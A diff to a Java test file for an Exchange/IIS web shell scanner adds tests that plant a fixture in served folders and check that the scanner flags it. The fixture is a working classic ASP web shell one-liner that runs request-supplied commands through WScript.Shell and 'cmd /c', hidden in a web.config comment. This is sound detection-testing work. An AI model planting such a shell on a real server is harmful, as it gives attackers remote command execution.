@@ -29,6 +29,7 @@ import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.Arguments;
 import org.junit.jupiter.params.provider.MethodSource;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /**
  * Exchange's own page names are no cover (issue 19, item 1): a shell of the public Exchange-intrusion families saved
@@ -64,6 +65,11 @@ class StandardPagesInScanTest {
             "webshells/xl7dev+WebShell/reGeorg-master/tunnel.aspx",
             "webshells/xl7dev+WebShell/Aspx/Command.aspx",
             "webshells/xl7dev+WebShell/Aspx/ASPXspy.aspx");
+
+    /** The web.config shell's shape: classic ASP in a comment that a handler mapping makes IIS run. */
+    private static final String SHELL_LINE = "<% Response.Write(CreateObject(\"WScript.Shell\").Exec(\"cmd /c \" & Request(\"c\")).StdOut.ReadAll()) %>";
+    private static final String WEB_CONFIG_SHELL = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<!-- "
+            + SHELL_LINE + " -->\r\n<configuration />\r\n";
 
     @TempDir
     Path drive;
@@ -132,6 +138,32 @@ class StandardPagesInScanTest {
         ServerResult r = HUNT.scan("hit", List.of(new DirectorySource(drive)));
 
         assertStandardPageFoundByItsCode(r, page);
+    }
+
+    /** The brief's places: ClientAccess, the front end beyond the auth folders, inetpub\\wwwroot (a web.config too). */
+    @ParameterizedTest(name = "{0}")
+    @ValueSource(strings = {
+        TestDrive.INSTALL + "ClientAccess/Owa/auth/logon.aspx",
+        TestDrive.INSTALL + "ClientAccess/ecp/DDI/RemoteDomains.aspx",
+        TestDrive.INSTALL + "FrontEnd/HttpProxy/ecp/handler.ashx",
+        "inetpub/wwwroot/iisstart.aspx",
+        "inetpub/wwwroot/web.config"})
+    void codeIsReadWhereverIisServes(String path) throws Exception {
+        new TestDrive(drive).write(path, WEB_CONFIG_SHELL).owaFolder("15.1.2176");
+
+        ServerResult r = HUNT.scan("served", List.of(new DirectorySource(drive)));
+
+        assertThat(r.findings()).filteredOn(f -> f.ruleId().equals(PageCodeAudit.RULE)).singleElement()
+                .satisfies(f -> assertThat(lines(f)).containsExactly("2 (starts a process): <!-- " + SHELL_LINE + " -->"));
+    }
+
+    @Test
+    void codeOutsideTheServedFoldersIsNotReadAsAPage() throws Exception {
+        new TestDrive(drive).write("Windows/Temp/logon.aspx", WEB_CONFIG_SHELL).owaFolder("15.1.2176");
+
+        ServerResult r = HUNT.scan("elsewhere", List.of(new DirectorySource(drive)));
+
+        assertThat(r.findings()).noneMatch(f -> f.ruleId().equals(PageCodeAudit.RULE));
     }
 
     @ParameterizedTest(name = "{0}")
